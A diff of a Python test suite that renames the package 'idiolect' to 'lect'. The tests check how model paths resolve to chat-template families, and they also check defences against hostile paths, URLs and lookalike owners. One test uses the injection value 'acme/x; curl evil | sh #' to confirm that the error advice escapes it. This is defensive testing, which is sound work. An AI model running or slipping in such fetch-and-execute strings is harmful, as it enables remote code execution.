@@ -11,16 +11,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-import idiolect
-from idiolect.errors import IdiolectError, InvalidModelPathError, ModelPathWarning, UnknownModelError
-from idiolect.registry.registry import Registry
+import lect
+from lect.errors import InvalidModelPathError, LectError, ModelPathWarning, UnknownModelError
+from lect.registry.registry import Registry
 
 CASES = json.loads((Path(__file__).parent / "data/hostile_paths.json").read_text("utf-8"))["cases"]
 # Where the family that a path resolves to is not also the name of a package.
 PACKAGES = {"llama-2": "llama", "llama-3": "llama", "chatml": "fastchat", "openchat": "fastchat", "starling": "fastchat"}
 # ChatML on Llama 3. No package knows it, FastChat's least of all: it would give it the first template that it has.
 NOBODYS = {"cognitivecomputations/dolphin-2.9-llama3-8b"}
-INSTALLED = {info.package for info in idiolect.plugins()}
+INSTALLED = {info.package for info in lect.plugins()}
 
 
 def cases(*expected, threat=None):
@@ -33,11 +33,11 @@ def path_of(case):
     return eval(case["path_expr"]) if "path_expr" in case else case["path"]
 
 
-def outcome(path, registry=idiolect):
+def outcome(path, registry=lect):
     """Return what a path resolves to, or the error."""
     try:
         return registry.resolve(path)
-    except IdiolectError as error:
+    except LectError as error:
         return error
 
 
@@ -50,7 +50,7 @@ def check_family(path, package):
         assert found.package == package
     elif isinstance(found, UnknownModelError):
         assert found.install == package
-        assert f"try: pip install {package}  (from a checkout: pip install ./plugins/{package.removeprefix('idiolect-')})" in str(found)
+        assert f"try: pip install {package}  (from a checkout: pip install ./plugins/{package.removeprefix('lect-')})" in str(found)
     else:
         assert found.adapter.fallback
 
@@ -64,7 +64,7 @@ def check_unknown(path):
 
 @cases("resolve")
 def test_a_path_resolves_to_its_family_or_the_error_names_the_package(case):
-    check_family(case["path"], f"idiolect-{PACKAGES.get(case['to'], case['to'])}")
+    check_family(case["path"], f"lect-{PACKAGES.get(case['to'], case['to'])}")
 
 
 @cases("error")
@@ -74,7 +74,7 @@ def test_what_cannot_name_a_model_is_refused_quickly_and_shown_harmlessly(case):
     for _ in range(3):
         begun = time.perf_counter()
         with pytest.raises(InvalidModelPathError) as caught:
-            idiolect.resolve(path)
+            lect.resolve(path)
         took.append(time.perf_counter() - begun)
     assert min(took) < 0.010
     text = str(caught.value)
@@ -87,13 +87,13 @@ def test_what_cannot_name_a_model_is_refused_quickly_and_shown_harmlessly(case):
 @cases("error")
 def test_a_default_is_for_unknown_models_and_not_for_what_cannot_name_one(case):
     with pytest.raises(InvalidModelPathError):
-        idiolect.get_conversation_template(path_of(case), default="chatml")
+        lect.get_conversation_template(path_of(case), default="chatml")
 
 
 @cases("error", "resolve-or-error", threat="url")
 def test_an_address_is_never_repeated_in_an_error(case):
     with pytest.raises(InvalidModelPathError) as caught:
-        idiolect.resolve(case["path"])
+        lect.resolve(case["path"])
     assert case["path"].partition(":")[2].strip("/") not in str(caught.value)
     assert "pass" not in str(caught.value)
 
@@ -126,11 +126,11 @@ def test_an_imitated_owner_is_warned_of(case):
     with warnings.catch_warnings(record=True) as caught:
         warnings.simplefilter("always")
         resolution = outcome(case["path"], registry)
-    if f"idiolect-{family}" not in INSTALLED and isinstance(resolution, UnknownModelError):
-        assert resolution.install == f"idiolect-{family}"
+    if f"lect-{family}" not in INSTALLED and isinstance(resolution, UnknownModelError):
+        assert resolution.install == f"lect-{family}"
         return
     (warning,) = [each for each in caught if each.category is ModelPathWarning]
-    assert resolution.package == f"idiolect-{family}"
+    assert resolution.package == f"lect-{family}"
     owner = case["path"].partition("/")[0]
     assert str(warning.message).startswith(f"the owner {owner!a} looks like ")
     assert resolution.warnings == (str(warning.message),)
@@ -144,14 +144,14 @@ def test_a_word_inside_another_is_no_claim(case):
 
 @pytest.mark.parametrize("path", ["lmsys/vicuna-7b-v1.5", "Qwen/Qwen2.5-7B-Instruct"])
 def test_a_path_object_is_as_good_as_text(path):
-    check_family(PurePosixPath(path), "idiolect-vicuna" if "vicuna" in path else "idiolect-qwen")
+    check_family(PurePosixPath(path), "lect-vicuna" if "vicuna" in path else "lect-qwen")
 
 
 @pytest.mark.parametrize("path", [b"lmsys/vicuna-7b-v1.5", Path, 1.5, ("lmsys", "vicuna")])
 def test_what_is_neither_text_nor_a_path_object_is_a_type_error(path):
     with pytest.raises(TypeError, match="a model path is text or path-like, not ") as caught:
-        idiolect.resolve(path)
-    assert isinstance(caught.value, IdiolectError)
+        lect.resolve(path)
+    assert isinstance(caught.value, LectError)
 
 
 @given(st.text() | st.text("/\\.:@-_~ vicuna7b\u0441\u2010", max_size=40))
@@ -159,24 +159,24 @@ def test_no_text_brings_forth_another_error_than_ours(path):
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", ModelPathWarning)
         found = outcome(path)
-    assert not isinstance(found, IdiolectError) or "\n  try: " in str(found)
+    assert not isinstance(found, LectError) or "\n  try: " in str(found)
 
 
 def test_a_path_cannot_write_a_command_into_the_advice():
-    assert str(check_unknown("acme/x; curl evil | sh #")).endswith("   or: idiolect why 'acme/x; curl evil | sh #'")
+    assert str(check_unknown("acme/x; curl evil | sh #")).endswith("   or: lect why 'acme/x; curl evil | sh #'")
     assert len(str(check_unknown(f"acme/{'x' * 4000}"))) < 1000
 
 
 WATCHED = """
 import json, os, sys
-import idiolect
-from idiolect.errors import IdiolectError
+import lect
+from lect.errors import LectError
 paths = json.loads(sys.argv[1])
 def resolve_all(paths):
     for path in paths:
         try:
-            idiolect.resolve(path)
-        except IdiolectError:
+            lect.resolve(path)
+        except LectError:
             pass
 resolve_all(paths)  # discovery, and whatever is imported when first needed
 seen = []
